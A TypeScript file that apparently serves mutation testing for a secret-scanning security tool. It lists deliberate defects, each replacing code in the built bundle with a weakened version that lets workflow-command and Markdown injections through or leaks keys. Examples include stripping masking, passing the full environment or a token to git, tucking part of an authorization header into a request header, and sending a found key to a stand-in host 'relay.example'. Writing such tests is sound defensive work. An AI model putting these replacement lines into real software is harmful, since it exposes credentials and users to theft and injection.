import type { Problems } from "../play.ts";

/**
 * Defects that somebody might bring in, each as a change of the built bundle. A hunt that finds none of them proves
 * nothing. All of them break a promise of the threat model at another place.
 */
export interface Defect {
  readonly name: string;
  /** Stands in the bundle as it is; all places are changed. */
  readonly code: string;
  readonly becomes: string;
  /** Which promise is broken. */
  readonly breaks: keyof Problems;
}

export const DEFECTS: readonly Defect[] = [
  {
    name: "commands of the first kind stay in texts",
    code: '.replaceAll("##[", "## [")',
    becomes: "",
    breaks: "injections",
  },
  {
    name: "line breaks stay in texts",
    code: 'if (char === "\\n")\n        return "\\\\n";',
    becomes: 'if (char === "\\n")\n        return "\\n";',
    breaks: "injections",
  },
  {
    name: "control characters and invisible ones stay in texts",
    code: 'if (char === "\\t")\n        return " ";',
    becomes: "return char;",
    breaks: "injections",
  },
  {
    name: "markup stays in Markdown",
    code: ".replace(/[&<>\\\\`*[\\]|~#@$^{}]|(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])/g, entity)",
    becomes: "",
    breaks: "injections",
  },
  {
    name: "a mention is written as an entity, which GitHub resolves first",
    code: '"@#:".includes(char) ? BREAK : ""',
    becomes: '""',
    breaks: "injections",
  },
  {
    name: "addresses stay addresses in Markdown",
    code: ".replace(/:(?=\\/\\/)|(?<=www)\\./gi, entity)",
    becomes: "",
    breaks: "injections",
  },
  {
    name: "brackets stay in messages of SARIF",
    code: 'return text.replace(/[[{]/g, "(").replace(/[\\]}]/g, ")");',
    becomes: "return text;",
    breaks: "injections",
  },
  {
    name: "annotations stand at paths as they are shown",
    code: "path === place.file && name?.hasKey === false && isReadable(path)",
    becomes: "true",
    breaks: "injections",
  },
  {
    name: "parts of a secret stay in texts of servers",
    code: "function withoutPieces(text, { exact, squeezed }) {",
    becomes: "function withoutPieces(text, { exact, squeezed }) { return text;",
    breaks: "leaks",
  },
  {
    name: "keys stay in names of files",
    code: "(0,sanitize/* safe */.gB)(hide(text), maxLength)",
    becomes: "(0,sanitize/* safe */.gB)(text, maxLength)",
    breaks: "leaks",
  },
  {
    name: "addresses in SARIF hold the path as it is",
    code: "(name?.hasKey === false ? place.file : path)",
    becomes: "(place.file)",
    breaks: "leaks",
  },
  {
    name: "git gets the environment of the step",
    code: "const passed = Object.entries(env).filter(([name]) => PASSED_ON.test(name));",
    becomes: "const passed = Object.entries(env);",
    breaks: "leaks",
  },
  {
    name: "git gets the token as an argument",
    code: "settings.push([`http.${new URL",
    becomes: "settings.push([`x.token`, remote.token], [`http.${new URL",
    breaks: "leaks",
  },
  {
    name: "the key that is found goes to the relay",
    code: "ports.connect({ baseUrl: VERIFY_BASE_URL, timeoutMs: VERIFY_TIMEOUT_MS })",
    becomes: 'ports.connect({ baseUrl: "https://relay.example/v1", timeoutMs: VERIFY_TIMEOUT_MS })',
    breaks: "leaks",
  },
  {
    name: "the client of GitHub goes where an answer leads",
    code: "if (url.origin !== origin)",
    becomes: "if (false)",
    breaks: "leaks",
  },
  {
    name: "a key stands in the address of a request",
    code: 'headers: { ...headers, "accept-encoding": "identity" },',
    becomes:
      'headers: { ...headers, "accept-encoding": "identity", "x-trace": String(headers.authorization).slice(-12) },',
    breaks: "leaks",
  },
  {
    name: "answers are printed when something is wrong",
    code: 'return Buffer.concat(chunks).toString("utf8");',
    becomes: 'const all = Buffer.concat(chunks).toString("utf8"); console.log(all); return all;',
    breaks: "injections",
  },
  {
    name: "a new key is not masked",
    code: "ports.runner.mask(mask);",
    becomes: ";",
    breaks: "leaks",
  },
  {
    name: "the keys that are given are not masked",
    code: "for (const mask of new Set(given.flatMap(key_forms/* masksFor */.RM)))\n        runner.mask(mask);",
    becomes: "",
    breaks: "leaks",
  },
];
